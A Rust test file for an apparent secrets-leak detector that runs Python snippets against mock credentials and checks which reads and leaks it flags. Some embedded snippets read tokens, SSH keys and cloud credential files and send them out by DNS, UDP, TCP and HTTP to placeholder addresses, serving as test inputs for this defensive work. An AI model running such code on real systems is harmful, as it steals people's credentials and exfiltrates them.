//! Mock secrets: reading them is told, and so is every way out.

use crate::world::{each, flags, python, run, ways};

#[test]
fn reading_is_told() {
    let text = "import os\nos.environ['GITHUB_TOKEN']; os.getenv('OPENAI_API_KEY')\n\
                open(os.path.expanduser('~/.aws/credentials')).read(); open(os.path.expanduser('~/.ssh/id_ed25519')).read()";
    each(text, |way, execution| {
        let read: Vec<&str> = execution.canaries_read.iter().map(String::as_str).collect();
        assert_eq!(read, ["GITHUB_TOKEN", "OPENAI_API_KEY", "~/.aws/credentials", "~/.ssh/id_ed25519"], "{way:?}");
        assert_eq!(flags(&execution), ["credential-file-read"], "{way:?}");
        assert!(execution.canaries_leaked.is_empty(), "{way:?}");
    });
}

#[test]
fn an_innocent_program_has_no_flags() {
    let text = "import json, os, tempfile, sys\nprint(json.dumps(sys.argv), len(os.environ))\n\
                with tempfile.TemporaryDirectory() as folder:\n    open(folder + '/x', 'w').write('1')\n";
    each(text, |way, execution| {
        assert!(execution.flags.is_empty() && execution.canaries_read.is_empty(), "{way:?} {execution:#?}");
        assert!(execution.refused.is_empty() && execution.network.total == 0, "{way:?} {execution:#?}");
    });
}

/// Each line sends one secret by another way.
#[test]
fn every_way_out_is_seen() {
    let text = r#"
import base64, os, socket, subprocess
env, home = os.environ, os.path.expanduser('~')
subprocess.run(['true', '--token=' + env['GITHUB_TOKEN']])
try:
    socket.getaddrinfo(base64.b32encode(env['API_KEY'].encode()).decode().strip('=').lower() + '.example.org', 80)
except OSError:
    pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(env['NPM_TOKEN'].encode().hex().encode(), ('192.0.2.1', 99))
s.connect(('192.0.2.1', 98))
s.send(base64.b64encode(b'{"k": "' + env['OPENAI_API_KEY'].encode() + b'"}'))
s.sendmsg([b'x' + env['SLACK_BOT_TOKEN'].encode()], [], 0, ('192.0.2.1', 97))
t = socket.create_connection(('192.0.2.2', 80), 5)
t.sendall(b'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 40\r\n\r\n' + env['AWS_SECRET_ACCESS_KEY'].encode())
t.recv(100)
open(env['TMPDIR'] + '/copy', 'w').write(open(home + '/.npmrc').read())
os.makedirs(home + '/cache')
open(home + '/cache/' + env['STRIPE_SECRET_KEY'], 'w')
"#;
    each(text, |way, execution| {
        let leaked: Vec<&str> = execution.canaries_leaked.iter().map(String::as_str).collect();
        let expect = [
            "API_KEY",
            "AWS_SECRET_ACCESS_KEY",
            "GITHUB_TOKEN",
            "NPM_TOKEN",
            "OPENAI_API_KEY",
            "SLACK_BOT_TOKEN",
            "STRIPE_SECRET_KEY",
            "~/.npmrc",
        ];
        assert_eq!(leaked, expect, "{way:?} {execution:#?}");
        assert!(
            flags(&execution).contains(&"canary-leaked") && flags(&execution).contains(&"canary-stored"),
            "{way:?}"
        );
        assert_eq!(execution.flags[0].code, "canary-leaked", "the most serious comes first: {:?}", execution.flags);
        let message = &execution.flags[0].message;
        for way_out in ["GITHUB_TOKEN (argument)", "API_KEY (dns)", "NPM_TOKEN (udp)", "AWS_SECRET_ACCESS_KEY (tcp)"] {
            assert!(message.contains(way_out), "{way_out}: {message}");
        }
        // The report itself gives none away.
        assert!(!message.contains("ghp_"), "{message}");
    });
}

#[test]
fn printing_is_another_matter() {
    for way in ways() {
        let execution = run(way, &python("import os\nprint(os.environ['GITHUB_TOKEN'])"));
        assert_eq!(flags(&execution), ["canary-printed"], "{way:?}");
        assert!(execution.canaries_leaked.is_empty());
    }
}
